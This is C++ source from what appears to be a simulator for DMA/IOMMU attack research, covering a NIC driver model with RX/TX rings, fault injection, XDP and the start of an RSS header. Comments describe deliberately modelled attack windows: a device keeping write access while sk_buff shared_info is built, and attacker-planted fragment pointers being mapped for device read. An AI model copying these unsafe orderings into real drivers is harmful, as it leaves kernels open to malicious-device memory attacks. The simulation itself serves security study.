                                  dma::DmaDirection::kToDevice);
  for (const TxFragMapping& frag : slot.frags) {
    Status status =
        dma_.UnmapSingle(device_id_, frag.iova, frag.len, dma::DmaDirection::kToDevice);
    if (first.ok() && !status.ok()) {
      first = status;
    }
  }
  return first;
}

Result<SkBuffPtr> NicDriver::CompleteTx(uint32_t queue, uint32_t index) {
  trace::ScopedSpan span(tracer_, "nic.complete_tx");
  if (queue >= queues_.size()) {
    return FailedPrecondition("TX completion on unknown queue");
  }
  Queue& q = queues_[queue];
  if (index >= q.tx_ring.size() || !q.tx_ring[index].busy) {
    return FailedPrecondition("TX completion on empty slot");
  }
  if (fault_ != nullptr && fault_->armed() &&
      fault_->ShouldInject(fault::FaultSite::kNicTxCompletionLoss)) {
    // The completion never arrives: the slot stays busy (mappings and skb
    // intact) until the TX watchdog flushes it (§5.4's T/O path).
    return Unavailable("injected: TX completion lost");
  }
  TxSlot& slot = q.tx_ring[index];
  SPV_RETURN_IF_ERROR(UnmapTxSlot(q, slot));
  SkBuffPtr skb = std::move(slot.skb);
  slot = TxSlot{};
  return skb;
}

uint32_t NicDriver::CheckTxTimeout(uint32_t queue) {
  Queue& q = queues_[queue];
  uint32_t timed_out = 0;
  for (TxSlot& slot : q.tx_ring) {
    if (slot.busy && clock_.now() - slot.post_cycle > config_.tx_timeout_cycles) {
      ++timed_out;
    }
  }
  if (timed_out > 0) {
    // Queue reset: flush every pending TX buffer on THIS queue (siblings are
    // untouched, like netif_tx_stop_queue on one txq). Flushed skbs are
    // parked on the queue's bounded requeue list — not leaked.
    for (TxSlot& slot : q.tx_ring) {
      if (!slot.busy) {
        continue;
      }
      (void)UnmapTxSlot(q, slot);
      if (q.tx_requeue.size() < q.tx_ring.size()) {
        q.tx_requeue.push_back(PendingTx{std::move(slot.skb), 0});
      } else {
        ++q.tx_requeue_drops;
        (void)skb_alloc_.FreeSkb(std::move(slot.skb), nullptr);
        if (dma_.telemetry().enabled()) {
          dma_.telemetry().counter("nic.tx_dropped").Add();
        }
      }
      slot = TxSlot{};
    }
    ++q.tx_resets;
    EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicTxReset,
                 telemetry::Severity::kWarn, device_id_, timed_out, this,
                 q.name + "_tx_timeout_reset");
    if (dma_.telemetry().enabled()) {
      dma_.telemetry().counter("nic.tx_resets").Add();
      dma_.telemetry().counter("nic.ring_reset").Add();
    }
  }
  return timed_out;
}

uint32_t NicDriver::CheckTxTimeout() {
  uint32_t timed_out = 0;
  for (uint32_t q = 0; q < queues_.size(); ++q) {
    timed_out += CheckTxTimeout(q);
  }
  return timed_out;
}

uint32_t NicDriver::RequeueTimedOut(uint32_t queue) {
  Queue& q = queues_[queue];
  const uint64_t start = clock_.now();
  uint32_t reposted = 0;
  while (!q.tx_requeue.empty()) {
    if (PollDeadlineHit(q, start, "requeue_timed_out")) {
      break;  // remaining skbs stay parked for the next poll
    }
    PendingTx pending = std::move(q.tx_requeue.front());
    q.tx_requeue.pop_front();
    Result<uint32_t> index = TryPostTx(queue, pending.skb);
    if (index.ok()) {
      ++reposted;
      EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kFaultRecovered,
                   telemetry::Severity::kInfo, device_id_, *index, this,
                   q.name + "_tx_requeue");
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("fault.recovered.tx_requeue").Add();
      }
      continue;
    }
    ++pending.attempts;
    if (pending.attempts >= config_.tx_requeue_max_attempts) {
      ++q.tx_requeue_drops;
      (void)skb_alloc_.FreeSkb(std::move(pending.skb), nullptr);
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("nic.tx_requeue_dropped").Add();
      }
      continue;
    }
    // Head-of-line: put it back and stop — the ring is presumably still full.
    q.tx_requeue.push_front(std::move(pending));
    break;
  }
  return reposted;
}

uint32_t NicDriver::RequeueTimedOut() {
  uint32_t reposted = 0;
  for (uint32_t q = 0; q < queues_.size(); ++q) {
    reposted += RequeueTimedOut(q);
  }
  return reposted;
}

Status NicDriver::Shutdown() {
  trace::ScopedSpan span(tracer_, "nic.shutdown");
  Status first = OkStatus();
  auto note = [&first](const Status& status) {
    if (first.ok() && !status.ok()) {
      first = status;
    }
  };
  const dma::DmaDirection rx_dir =
      config_.xdp ? dma::DmaDirection::kBidirectional : dma::DmaDirection::kFromDevice;
  for (Queue& q : queues_) {
    dma_.set_current_cpu(q.cpu);
    slab::PageFragPool* pool = skb_alloc_.frag_pool(q.cpu);
    for (RxSlot& slot : q.rx_ring) {
      if (!slot.posted) {
        continue;
      }
      note(dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
      if (pool != nullptr) {
        note(pool->Free(slot.head));
      }
      slot = RxSlot{};
    }
    for (TxSlot& slot : q.tx_ring) {
      if (!slot.busy) {
        continue;
      }
      note(UnmapTxSlot(q, slot));
      note(skb_alloc_.FreeSkb(std::move(slot.skb), nullptr));
      slot = TxSlot{};
    }
    while (!q.tx_requeue.empty()) {
      note(skb_alloc_.FreeSkb(std::move(q.tx_requeue.front().skb), nullptr));
      q.tx_requeue.pop_front();
    }
    q.rx_needs_refill = false;
  }
  return first;
}

std::optional<Kva> NicDriver::RxSlotKva(uint32_t queue, uint32_t index) const {
  if (queue >= queues_.size()) {
    return std::nullopt;
  }
  const Queue& q = queues_[queue];
  if (index >= q.rx_ring.size() || !q.rx_ring[index].posted) {
    return std::nullopt;
  }
  return q.rx_ring[index].head;
}

std::optional<Iova> NicDriver::RxSlotIova(uint32_t queue, uint32_t index) const {
  if (queue >= queues_.size()) {
    return std::nullopt;
  }
  const Queue& q = queues_[queue];
  if (index >= q.rx_ring.size() || !q.rx_ring[index].posted) {
    return std::nullopt;
  }
  return q.rx_ring[index].iova;
}

uint32_t NicDriver::pending_tx() const {
  uint32_t count = 0;
  for (uint32_t q = 0; q < queues_.size(); ++q) {
    count += pending_tx(q);
  }
  return count;
}

uint32_t NicDriver::pending_tx(uint32_t queue) const {
  uint32_t count = 0;
  for (const TxSlot& slot : queues_[queue].tx_ring) {
    if (slot.busy) {
      ++count;
    }
  }
  return count;
}

size_t NicDriver::tx_requeue_depth() const {
  size_t depth = 0;
  for (const Queue& q : queues_) {
    depth += q.tx_requeue.size();
  }
  return depth;
}

Status NicDriver::AuditQueues() const {
  for (uint32_t qi = 0; qi < queues_.size(); ++qi) {
    const Queue& q = queues_[qi];
    for (uint32_t i = 0; i < q.rx_ring.size(); ++i) {
      const RxSlot& slot = q.rx_ring[i];
      if (!slot.posted) {
        continue;
      }
      std::optional<dma::DmaMapping> mapping = dma_.FindMapping(device_id_, slot.iova);
      if (!mapping.has_value()) {
        return Internal(q.name + " rx slot " + std::to_string(i) +
                        " posted but its IOVA has no live DMA mapping");
      }
      if (mapping->len != rx_buffer_bytes()) {
        return Internal(q.name + " rx slot " + std::to_string(i) +
                        " mapping length disagrees with the ring's buffer size");
      }
    }
    for (uint32_t i = 0; i < q.tx_ring.size(); ++i) {
      const TxSlot& slot = q.tx_ring[i];
      if (!slot.busy) {
        continue;
      }
      if (!dma_.FindMapping(device_id_, slot.linear_iova).has_value()) {
        return Internal(q.name + " tx slot " + std::to_string(i) +
                        " busy but its linear IOVA has no live DMA mapping");
      }
      for (const TxFragMapping& frag : slot.frags) {
        if (!dma_.FindMapping(device_id_, frag.iova).has_value()) {
          return Internal(q.name + " tx slot " + std::to_string(i) +
                          " has an unmapped frag IOVA");
        }
      }
    }
    if (q.tx_requeue.size() > q.tx_ring.size()) {
      return Internal(q.name + " requeue list exceeds its bound");
    }
  }
  return OkStatus();
}

}  // namespace spv::net
