#include "net/nic_driver.h"

#include <algorithm>

#include "fault/fault.h"

namespace spv::net {

namespace {

// One helper for every driver emit point: packet milestones share the shape
// (device + length + site), only kind/severity vary.
void EmitNicEvent(telemetry::Hub& hub, telemetry::EventKind kind,
                  telemetry::Severity severity, DeviceId device, uint64_t len,
                  const void* origin, std::string site) {
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = kind;
  event.severity = severity;
  event.device = device.value;
  event.len = len;
  event.origin = origin;
  event.site = std::move(site);
  hub.Publish(std::move(event));
}

}  // namespace

NicDriver::NicDriver(DeviceId device_id, dma::DmaApi& dma, dma::KernelMemory& kmem,
                     SkbAllocator& skb_alloc, SimClock& clock, Config config)
    : device_id_(device_id),
      dma_(dma),
      kmem_(kmem),
      skb_alloc_(skb_alloc),
      clock_(clock),
      config_(std::move(config)) {
  rx_ring_.resize(config_.rx_ring_size);
  tx_ring_.resize(config_.tx_ring_size);
}

uint32_t NicDriver::rx_buffer_bytes() const {
  if (config_.hw_lro) {
    return kLroBufBytes;
  }
  return static_cast<uint32_t>(SkbDataAlign(config_.rx_buf_len) +
                               SkbDataAlign(SharedInfoLayout::kSize));
}

bool NicDriver::PollDeadlineHit(uint64_t start_cycle, std::string_view loop) {
  if (clock_.now() - start_cycle < config_.poll_deadline_cycles) {
    return false;
  }
  ++poll_deadline_hits_;
  EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicPollDeadline,
               telemetry::Severity::kWarn, device_id_, clock_.now() - start_cycle,
               this, config_.name + "_" + std::string(loop));
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter("nic.poll_deadline_exceeded").Add();
  }
  return true;
}

Status NicDriver::FillRxRing() {
  trace::ScopedSpan span(tracer_, "nic.fill_rx");
  const uint64_t start = clock_.now();
  // Best-effort: one slot failing to fill must not leave the ones after it
  // empty; the first error is still reported.
  Status first = OkStatus();
  for (uint32_t i = 0; i < config_.rx_ring_size; ++i) {
    if (rx_ring_[i].posted) {
      continue;
    }
    if (PollDeadlineHit(start, "fill_rx")) {
      // Out of budget: leave the rest for the retry path instead of stalling
      // the caller on a slow map path.
      rx_needs_refill_ = true;
      break;
    }
    Status status = RefillSlot(i);
    if (first.ok() && !status.ok()) {
      first = status;
    }
  }
  return first;
}

Status NicDriver::RefillSlot(uint32_t index) {
  if (fault_ != nullptr && fault_->armed() &&
      fault_->ShouldInject(fault::FaultSite::kNicRxRefillStarve)) {
    return ResourceExhausted("injected: rx refill starvation");
  }
  // Ring work executes on the driver's IRQ CPU: IOVA magazine traffic for
  // this device stays CPU-local (the Linux rcache locality assumption).
  dma_.set_current_cpu(config_.cpu);
  slab::PageFragPool* pool = skb_alloc_.frag_pool(config_.cpu);
  if (pool == nullptr) {
    return FailedPrecondition("no page_frag pool for driver cpu");
  }
  Result<Kva> head =
      pool->Alloc(rx_buffer_bytes(), kSmpCacheBytes, config_.name + "_alloc_rx_buf");
  if (!head.ok()) {
    return head.status();
  }
  // XDP programs may rewrite and retransmit the buffer, so XDP-enabled
  // drivers map RX buffers BIDIRECTIONAL — handing the device READ access to
  // the whole page on top of the usual WRITE (§5.1).
  const dma::DmaDirection rx_dir =
      config_.xdp ? dma::DmaDirection::kBidirectional : dma::DmaDirection::kFromDevice;
  Result<Iova> iova = dma_.MapSingle(device_id_, *head, rx_buffer_bytes(), rx_dir,
                                     config_.name + "_map_rx");
  if (!iova.ok()) {
    (void)pool->Free(*head);
    return iova.status();
  }
  rx_ring_[index] = RxSlot{true, *head, *iova};
  if (device_ != nullptr) {
    device_->OnRxPosted(RxPostedDescriptor{index, *iova, rx_buffer_bytes()});
  }
  return OkStatus();
}

void NicDriver::RefillSlotTolerant(uint32_t index) {
  Status status = RefillSlot(index);
  if (status.ok()) {
    return;
  }
  // The ring runs one slot short; RetryRefills() will try again after the
  // backoff window instead of failing the completion that noticed it.
  ++rx_refill_failures_;
  rx_needs_refill_ = true;
  refill_backoff_until_ = clock_.now() + config_.refill_retry_backoff_cycles;
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter("nic.rx_refill_failures").Add();
  }
}

uint32_t NicDriver::RetryRefills() {
  if (!rx_needs_refill_ || clock_.now() < refill_backoff_until_) {
    return 0;
  }
  const uint64_t start = clock_.now();
  uint32_t refilled = 0;
  bool failed = false;
  for (uint32_t i = 0; i < rx_ring_.size(); ++i) {
    if (rx_ring_[i].posted) {
      continue;
    }
    if (PollDeadlineHit(start, "retry_refills")) {
      failed = true;  // budget spent: keep rx_needs_refill_ armed for later
      break;
    }
    Status status = RefillSlot(i);
    if (!status.ok()) {
      ++rx_refill_failures_;
      refill_backoff_until_ = clock_.now() + config_.refill_retry_backoff_cycles;
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("nic.rx_refill_failures").Add();
      }
      failed = true;
      break;
    }
    ++refilled;
  }
  if (!failed) {
    rx_needs_refill_ = false;
  }
  if (refilled > 0) {
    EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kFaultRecovered,
                 telemetry::Severity::kInfo, device_id_, refilled, this,
                 config_.name + "_rx_refill_retry");
    if (dma_.telemetry().enabled()) {
      dma_.telemetry().counter("fault.recovered.rx_refill_retry").Add();
    }
  }
  return refilled;
}

Result<SkBuffPtr> NicDriver::DropRxFrame(uint32_t index, uint32_t pkt_len,
                                         std::string_view counter) {
  RxSlot slot = rx_ring_[index];
  rx_ring_[index].posted = false;
  EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicRxError,
               telemetry::Severity::kWarn, device_id_, pkt_len, this,
               config_.name + "_rx_error");
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter(std::string(counter)).Add();
  }
  if (config_.sync_only_rx) {
    // Page-reuse drivers keep the buffer and its (permanent) mapping: the
    // same slot is simply reposted.
    rx_ring_[index] = slot;
    if (device_ != nullptr) {
      device_->OnRxPosted(RxPostedDescriptor{index, slot.iova, rx_buffer_bytes()});
    }
    return SkBuffPtr{};
  }
  const dma::DmaDirection rx_dir =
      config_.xdp ? dma::DmaDirection::kBidirectional : dma::DmaDirection::kFromDevice;
  SPV_RETURN_IF_ERROR(dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
  slab::PageFragPool* pool = skb_alloc_.frag_pool(config_.cpu);
  if (pool != nullptr) {
    SPV_RETURN_IF_ERROR(pool->Free(slot.head));
  }
  RefillSlotTolerant(index);
  return SkBuffPtr{};
}

Result<SkBuffPtr> NicDriver::CompleteRx(uint32_t index, uint32_t pkt_len) {
  trace::ScopedSpan span(tracer_, "nic.complete_rx");
  if (index >= rx_ring_.size() || !rx_ring_[index].posted) {
    return FailedPrecondition("RX completion on empty slot");
  }
  dma_.set_current_cpu(config_.cpu);
  RetryRefills();
  const bool faulting = fault_ != nullptr && fault_->armed();
  if (faulting && fault_->ShouldInject(fault::FaultSite::kNicDeviceStall)) {
    // The device went quiet for a while before delivering this completion;
    // everything time-based (TX watchdog, refill backoff) sees the gap.
    clock_.Advance(fault_->magnitude(fault::FaultSite::kNicDeviceStall,
                                     SimClock::MsToCycles(1)));
  }
  const uint32_t usable =
      rx_buffer_bytes() - static_cast<uint32_t>(SkbDataAlign(SharedInfoLayout::kSize));
  bool injected_bad_len = false;
  if (faulting && fault_->ShouldInject(fault::FaultSite::kNicDescWriteback)) {
    // Descriptor writeback corruption: the length field is device-supplied
    // garbage, exactly what a malfunctioning NIC would post.
    pkt_len = static_cast<uint32_t>(
        fault_->magnitude(fault::FaultSite::kNicDescWriteback, 0xdeadbeef));
    injected_bad_len = true;
  } else if (faulting && fault_->ShouldInject(fault::FaultSite::kNicRxTruncate)) {
    pkt_len = static_cast<uint32_t>(std::min<uint64_t>(
        pkt_len, fault_->magnitude(fault::FaultSite::kNicRxTruncate, pkt_len / 2)));
    injected_bad_len = pkt_len < PacketHeader::kSize || pkt_len > usable;
  }
  if (pkt_len < PacketHeader::kSize || pkt_len > usable) {
    if (injected_bad_len) {
      // Device-originated garbage: drop with accounting and recover the slot.
      ++rx_length_errors_;
      return DropRxFrame(index, pkt_len, "nic.rx_length_errors");
    }
    // Caller misuse: reject and leave the slot posted.
    return InvalidArgument("RX packet length out of bounds");
  }
  if (faulting && fault_->ShouldInject(fault::FaultSite::kNicRxDrop)) {
    ++rx_device_drops_;
    return DropRxFrame(index, pkt_len, "nic.rx_device_drops");
  }
  RxSlot slot = rx_ring_[index];
  rx_ring_[index].posted = false;
  if (faulting && fault_->ShouldInject(fault::FaultSite::kNicRxCorrupt)) {
    // Payload corruption: scribble the on-wire header before the driver
    // parses it; the stack's length/parse checks must catch it.
    (void)kmem_.Fill(slot.head, PacketHeader::kSize, 0xFF);
  }

  auto build = [&]() -> Result<SkBuffPtr> {
    Result<SkBuffPtr> skb = skb_alloc_.BuildSkb(
        slot.head, rx_buffer_bytes(),
        OwnedBuffer{slot.head, BufSource::kPageFrag, config_.cpu});
    if (!skb.ok()) {
      return skb.status();
    }
    (*skb)->len = pkt_len;
    Result<PacketHeader> header = ReadPacketHeader(kmem_, (*skb)->data);
    if (header.ok()) {
      (*skb)->header = *header;
      (*skb)->header_parsed = true;
    }
    return skb;
  };

  const dma::DmaDirection rx_dir =
      config_.xdp ? dma::DmaDirection::kBidirectional : dma::DmaDirection::kFromDevice;

  // XDP runs on the raw buffer while it is still mapped BIDIRECTIONAL — the
  // program may rewrite the packet in place (§5.1's zero-copy case).
  if (config_.xdp && xdp_program_ != nullptr) {
    const XdpVerdict verdict = xdp_program_->Run(kmem_, slot.head, pkt_len);
    if (verdict != XdpVerdict::kPass) {
      SPV_RETURN_IF_ERROR(
          dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
      if (verdict == XdpVerdict::kDrop) {
        ++xdp_drops_;
        EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kXdpDrop,
                     telemetry::Severity::kInfo, device_id_, pkt_len, this,
                     config_.name + "_xdp_drop");
        if (dma_.telemetry().enabled()) {
          dma_.telemetry().counter("nic.xdp_drops").Add();
        }
        slab::PageFragPool* pool = skb_alloc_.frag_pool(config_.cpu);
        if (pool != nullptr) {
          SPV_RETURN_IF_ERROR(pool->Free(slot.head));
        }
        SPV_RETURN_IF_ERROR(RefillSlot(index));
        return SkBuffPtr{};
      }
      // XDP_TX: bounce the (possibly rewritten) packet straight back out.
      Result<SkBuffPtr> bounce = skb_alloc_.BuildSkb(
          slot.head, rx_buffer_bytes(),
          OwnedBuffer{slot.head, BufSource::kPageFrag, config_.cpu});
      if (!bounce.ok()) {
        return bounce.status();
      }
      (*bounce)->len = pkt_len;
      Result<uint32_t> tx = PostTx(std::move(*bounce));
      if (!tx.ok()) {
        return tx.status();
      }
      ++xdp_tx_;
      EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kXdpTx,
                   telemetry::Severity::kInfo, device_id_, pkt_len, this,
                   config_.name + "_xdp_tx");
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("nic.xdp_tx").Add();
      }
      SPV_RETURN_IF_ERROR(RefillSlot(index));
      return SkBuffPtr{};
    }
  }

  Result<SkBuffPtr> skb = InvalidArgument("unreachable");
  if (config_.sync_only_rx) {
    // Page-reuse drivers never unmap: ownership comes back via dma_sync, the
    // translation stays installed, and the device keeps WRITE access to the
    // skb's page forever (§9: "the whole page is accessible").
    SPV_RETURN_IF_ERROR(
        dma_.SyncSingleForCpu(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
    skb = build();
  } else if (config_.unmap_before_build) {
    // Correct DMA API usage: revoke first, then let the CPU initialize
    // skb_shared_info (Fig 7 path (ii)/(iii) — still attackable, but not via
    // a live mapping of this buffer).
    SPV_RETURN_IF_ERROR(
        dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
    skb = build();
  } else {
    // i40e-like ordering (Fig 7 path (i)): sk_buff is built — including the
    // CPU's "legitimate" shared_info initialization — while the device still
    // has WRITE access. The device gets its race window, then we unmap.
    skb = build();
    if (device_ != nullptr) {
      device_->OnRxCompleting(index);
    }
    SPV_RETURN_IF_ERROR(
        dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
  }
  if (!skb.ok()) {
    return skb.status();
  }
  ++rx_packets_;
  EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicRx,
               telemetry::Severity::kInfo, device_id_, pkt_len, this,
               config_.name + "_rx");
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter("nic.rx_packets").Add();
  }
  // Linux refills opportunistically; we refill immediately to keep the ring
  // full (this is what makes consecutive ring buffers page-neighbours). A
  // failed refill must not lose the packet we already built — it arms the
  // retry backoff instead.
  RefillSlotTolerant(index);
  return skb;
}

Result<uint32_t> NicDriver::PostTx(SkBuffPtr skb) {
  trace::ScopedSpan span(tracer_, "nic.post_tx");
  Result<uint32_t> index = TryPostTx(skb);
  if (!index.ok() && skb != nullptr) {
    // TryPostTx leaves the skb with the caller on failure; PostTx owns it, so
    // it is released here rather than leaked.
    (void)skb_alloc_.FreeSkb(std::move(skb), nullptr);
  }
  return index;
}

Result<uint32_t> NicDriver::TryPostTx(SkBuffPtr& skb) {
  dma_.set_current_cpu(config_.cpu);
  uint32_t index = 0;
  for (; index < tx_ring_.size(); ++index) {
    if (!tx_ring_[index].busy) {
      break;
    }
  }
  if (index == tx_ring_.size()) {
    return ResourceExhausted("TX ring full");
  }
  TxSlot& slot = tx_ring_[index];
  slot.busy = true;
  slot.linear_len = skb->linear_len();
  slot.post_cycle = clock_.now();

  Result<Iova> linear = dma_.MapSingle(device_id_, skb->data, slot.linear_len,
                                       dma::DmaDirection::kToDevice,
                                       config_.name + "_xmit_linear");
  if (!linear.ok()) {
    slot = TxSlot{};
    return linear.status();
  }
  slot.linear_iova = *linear;

  // Map each fragment. The frag descriptors are read from the shared_info in
  // DEVICE-VISIBLE memory: whatever struct page pointers sit there — GRO's,
  // the TCP stack's, or an attacker's — get mapped for device READ.
  SharedInfoView shinfo{kmem_, skb->shared_info()};
  auto fail = [&](Status status) -> Result<uint32_t> {
    (void)UnmapTxSlot(slot);
    slot = TxSlot{};
    return status;
  };
  Result<uint8_t> nr_frags = shinfo.nr_frags();
  if (!nr_frags.ok()) {
    return fail(nr_frags.status());
  }
  for (uint8_t i = 0; i < *nr_frags; ++i) {
    Result<FragRef> frag = shinfo.frag(i);
    if (!frag.ok()) {
      return fail(frag.status());
    }
    Result<Pfn> pfn = kmem_.layout().StructPageKvaToPfn(frag->struct_page);
    if (!pfn.ok()) {
      // A corrupt frag page pointer would oops the real kernel; we surface it.
      return fail(InvalidArgument("TX frag with non-vmemmap struct page pointer"));
    }
    const Kva frag_kva =
        kmem_.layout().PhysToDirectMapKva(PhysAddr::FromPfn(*pfn, frag->page_offset));
    Result<Iova> frag_iova = dma_.MapSingle(device_id_, frag_kva, frag->size,
                                            dma::DmaDirection::kToDevice,
                                            config_.name + "_xmit_frag");
    if (!frag_iova.ok()) {
      return fail(frag_iova.status());
    }
    slot.frags.push_back(TxFragMapping{*frag_iova, frag_kva, frag->size});
  }

  TxPostedDescriptor descriptor;
  descriptor.index = index;
  descriptor.linear_iova = slot.linear_iova;
  descriptor.linear_len = slot.linear_len;
  for (const TxFragMapping& frag : slot.frags) {
    descriptor.frag_iovas.push_back(frag.iova);
    descriptor.frag_lens.push_back(frag.len);
  }
  slot.skb = std::move(skb);
  ++tx_packets_;
  EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicTx,
               telemetry::Severity::kInfo, device_id_, slot.linear_len, this,
               config_.name + "_tx");
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter("nic.tx_packets").Add();
  }
  if (device_ != nullptr) {
    device_->OnTxPosted(descriptor);
  }
  return index;
}

Status NicDriver::UnmapTxSlot(TxSlot& slot) {
  dma_.set_current_cpu(config_.cpu);
  // Attempt every unmap even if one fails — an early return here would strand
  // the remaining frag mappings with no one left holding their IOVAs.
  Status first = dma_.UnmapSingle(device_id_, slot.linear_iova, slot.linear_len,
                                  dma::DmaDirection::kToDevice);
  for (const TxFragMapping& frag : slot.frags) {
    Status status =
        dma_.UnmapSingle(device_id_, frag.iova, frag.len, dma::DmaDirection::kToDevice);
    if (first.ok() && !status.ok()) {
      first = status;
    }
  }
  return first;
}

Result<SkBuffPtr> NicDriver::CompleteTx(uint32_t index) {
  trace::ScopedSpan span(tracer_, "nic.complete_tx");
  if (index >= tx_ring_.size() || !tx_ring_[index].busy) {
    return FailedPrecondition("TX completion on empty slot");
  }
  if (fault_ != nullptr && fault_->armed() &&
      fault_->ShouldInject(fault::FaultSite::kNicTxCompletionLoss)) {
    // The completion never arrives: the slot stays busy (mappings and skb
    // intact) until the TX watchdog flushes it (§5.4's T/O path).
    return Unavailable("injected: TX completion lost");
  }
  TxSlot& slot = tx_ring_[index];
  SPV_RETURN_IF_ERROR(UnmapTxSlot(slot));
  SkBuffPtr skb = std::move(slot.skb);
  slot = TxSlot{};
  return skb;
}

uint32_t NicDriver::CheckTxTimeout() {
  uint32_t timed_out = 0;
  for (TxSlot& slot : tx_ring_) {
    if (slot.busy && clock_.now() - slot.post_cycle > config_.tx_timeout_cycles) {
      ++timed_out;
    }
  }
  if (timed_out > 0) {
    // Driver reset: flush every pending TX buffer. Flushed skbs are parked on
    // the bounded requeue list (RequeueTimedOut reposts them) — not leaked.
    for (TxSlot& slot : tx_ring_) {
      if (!slot.busy) {
        continue;
      }
      (void)UnmapTxSlot(slot);
      if (tx_requeue_.size() < tx_ring_.size()) {
        tx_requeue_.push_back(PendingTx{std::move(slot.skb), 0});
      } else {
        ++tx_requeue_drops_;
        (void)skb_alloc_.FreeSkb(std::move(slot.skb), nullptr);
        if (dma_.telemetry().enabled()) {
          dma_.telemetry().counter("nic.tx_dropped").Add();
        }
      }
      slot = TxSlot{};
    }
    ++tx_resets_;
    EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicTxReset,
                 telemetry::Severity::kWarn, device_id_, timed_out, this,
                 config_.name + "_tx_timeout_reset");
    if (dma_.telemetry().enabled()) {
      dma_.telemetry().counter("nic.tx_resets").Add();
      dma_.telemetry().counter("nic.ring_reset").Add();
    }
  }
  return timed_out;
}

uint32_t NicDriver::RequeueTimedOut() {
  const uint64_t start = clock_.now();
  uint32_t reposted = 0;
  while (!tx_requeue_.empty()) {
    if (PollDeadlineHit(start, "requeue_timed_out")) {
      break;  // remaining skbs stay parked for the next poll
    }
    PendingTx pending = std::move(tx_requeue_.front());
    tx_requeue_.pop_front();
    Result<uint32_t> index = TryPostTx(pending.skb);
    if (index.ok()) {
      ++reposted;
      EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kFaultRecovered,
                   telemetry::Severity::kInfo, device_id_, *index, this,
                   config_.name + "_tx_requeue");
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("fault.recovered.tx_requeue").Add();
      }
      continue;
    }
    ++pending.attempts;
    if (pending.attempts >= config_.tx_requeue_max_attempts) {
      ++tx_requeue_drops_;
      (void)skb_alloc_.FreeSkb(std::move(pending.skb), nullptr);
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("nic.tx_requeue_dropped").Add();
      }
      continue;
    }
    // Head-of-line: put it back and stop — the ring is presumably still full.
    tx_requeue_.push_front(std::move(pending));
    break;
  }
  return reposted;
}

Status NicDriver::Shutdown() {
  trace::ScopedSpan span(tracer_, "nic.shutdown");
  dma_.set_current_cpu(config_.cpu);
  Status first = OkStatus();
  auto note = [&first](const Status& status) {
    if (first.ok() && !status.ok()) {
      first = status;
    }
  };
  const dma::DmaDirection rx_dir =
      config_.xdp ? dma::DmaDirection::kBidirectional : dma::DmaDirection::kFromDevice;
  slab::PageFragPool* pool = skb_alloc_.frag_pool(config_.cpu);
  for (RxSlot& slot : rx_ring_) {
    if (!slot.posted) {
      continue;
    }
    note(dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
    if (pool != nullptr) {
      note(pool->Free(slot.head));
    }
    slot = RxSlot{};
  }
  for (TxSlot& slot : tx_ring_) {
    if (!slot.busy) {
      continue;
    }
    note(UnmapTxSlot(slot));
    note(skb_alloc_.FreeSkb(std::move(slot.skb), nullptr));
    slot = TxSlot{};
  }
  while (!tx_requeue_.empty()) {
    note(skb_alloc_.FreeSkb(std::move(tx_requeue_.front().skb), nullptr));
    tx_requeue_.pop_front();
  }
  rx_needs_refill_ = false;
  return first;
}

std::optional<Kva> NicDriver::RxSlotKva(uint32_t index) const {
  if (index >= rx_ring_.size() || !rx_ring_[index].posted) {
    return std::nullopt;
  }
  return rx_ring_[index].head;
}

std::optional<Iova> NicDriver::RxSlotIova(uint32_t index) const {
  if (index >= rx_ring_.size() || !rx_ring_[index].posted) {
    return std::nullopt;
  }
  return rx_ring_[index].iova;
}

uint32_t NicDriver::pending_tx() const {
  uint32_t count = 0;
  for (const TxSlot& slot : tx_ring_) {
    if (slot.busy) {
      ++count;
    }
  }
  return count;
}

}  // namespace spv::net
