// Receive-side scaling (RSS): Toeplitz flow hashing + an indirection table.
//
// Multi-queue NICs steer each incoming flow to one RX queue so that every
// packet of a flow is serviced by the same CPU (cache locality, no cross-CPU
// reordering). The device hashes the 4-tuple with the Toeplitz function over
// a driver-programmed 40-byte secret key, then indexes a small indirection
// table whose entries name RX queues. This file models exactly that: the
// same hash a real NIC computes, a 128-entry table seeded round-robin.
//
// Why it matters here: the queue a flow lands on decides *which CPU's* IOVA
// magazines, flush-queue shard and page_frag pool its buffers travel
// through. A device-side attacker who can choose the 4-tuple chooses the
// victim CPU — the cross-CPU stale-IOTLB scenarios in the soak harness are
// built on that.

#ifndef SPV_NET_RSS_H_
#define SPV_NET_RSS_H_

#include <array>
#include <cstdint>
#include <span>

namespace spv::net {

// The fields a NIC hashes for IPv4 TCP/UDP RSS, in hash order.
struct FlowTuple {
  uint32_t src_ip = 0;
  uint32_t dst_ip = 0;
  uint16_t src_port = 0;
  uint16_t dst_port = 0;
};

class Rss {
 public:
  static constexpr size_t kKeyBytes = 40;     // standard RSS key length
  static constexpr size_t kTableSize = 128;   // indirection table entries

